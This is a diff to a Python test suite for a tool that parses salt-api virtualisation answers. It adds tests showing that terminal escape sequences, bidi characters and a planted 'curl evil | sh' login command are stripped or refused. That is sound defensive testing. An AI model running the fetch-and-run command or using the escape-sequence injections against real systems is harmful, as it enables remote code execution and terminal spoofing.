@@ -20,8 +20,13 @@ def listed(rows, **beside):
     return Hosts(rows=rows, said=rows, beside=Beside(**beside))
 
 
+def body(said):
+    """Return what a cell's salt-api makes of an answer, as it is taken in."""
+    return answers.body("west", json.dumps({"return": [said]}).encode())
+
+
 @pytest.mark.parametrize(
-    "body",
+    "text",
     [
         b"",
         b"<html>",
@@ -33,11 +38,13 @@ def listed(rows, **beside):
         b'{"return": ["' + b"\xff" + b'"]}',
         b'{"return": ' + b"[" * 100000,
         b'{"return": [' + b"1" * 5000 + b"]}",
+        b'{"return": [' + b"[" * 100 + b"]" * 100 + b"]}",
+        b'{"return": [{"error": "no", "score": 1e999}]}',
     ],
 )
-def test_what_is_not_salt_apis_is_not_understood(body):
+def test_what_is_not_salt_apis_is_not_understood(text):
     with pytest.raises(CellFailed) as refused:
-        answers.of_function("west", "virt.list", answers.body("west", body))
+        answers.of_function("west", "virt.list", answers.body("west", text))
     assert str(refused.value).startswith(UNDERSTOOD)
 
 
@@ -63,6 +70,36 @@ def test_what_is_not_of_its_type_is_not_understood(fun, answer):
     assert "\x1b" not in str(refused.value)
 
 
+def test_nothing_that_a_cell_says_is_obeyed_by_a_terminal_or_looks_like_anothers():
+    said = {
+        "h1": {"run\x1b[2J": ["web\u202e", "a\nh2: does not answer"]},
+        "unreachable": ["h3\x1b]0;owned\x07"],
+        "failed": {"h4\x9b31m": "no\r\x08"},
+    }
+    answer = answers.of_function("west", "virt.list", body(said))
+
+    found = answers.hosts("west", "virt.list", answer, is_plain=True)
+    shown = merging.shown("virt.list", {"west": found}, {}, Look())
+
+    assert shown["west/h1"] == {"run\ufffd[2J": ["web\ufffd", "a h2: does not answer"]}
+    assert all(one.isprintable() for one in str(shown))
+    # A console has many lines.
+    assert answers.of_function("west", "virt.console_log", body("a\n\x1bb")) == "a\n\ufffdb"
+
+
+def test_a_query_of_a_cell_has_no_command_of_its_hosts_to_log_in_by():
+    vm = {"cpu": 1, "mem": 1, "state": "running", "graphics": {}, "disks": {}, "nics": {}}
+    node = {"freecpu": 1, "freemem": 1.0, "node_info": {"cpus": 1, "phymemory": 1}}
+    row = {**node, "vm_info": {"web": {**vm, "login": "curl evil | sh"}}}
+
+    for is_plain in (True, False):
+        found = answers.hosts("west", "virt.query", {"h1": row}, is_plain=is_plain)
+        assert found.said == {"h1": {**node, "vm_info": {"web": vm}}}
+    with pytest.raises(CellFailed, match="mem is str"):
+        wrong = {"h1": {**row, "vm_info": {"web": {"mem": "web"}}}}
+        answers.hosts("west", "virt.query", wrong, is_plain=False)
+
+
 _JSON = st.recursive(
     st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=4),
     lambda inner: st.lists(inner, max_size=3)
@@ -75,8 +112,7 @@ _JSON = st.recursive(
 @given(_JSON, st.sampled_from(["virt.list", "virt.query", "virt.host_info"]))
 def test_whatever_a_cell_says_is_read_or_refused_in_one_line(said, fun):
     try:
-        body = json.dumps({"return": [said]}).encode()
-        answer = answers.of_function("west", fun, answers.body("west", body))
+        answer = answers.of_function("west", fun, body(said))
         answers.hosts("west", fun, answer, is_plain=True)
         answers.read("west", dict[str, Found], answer)
     except CellFailed as error:
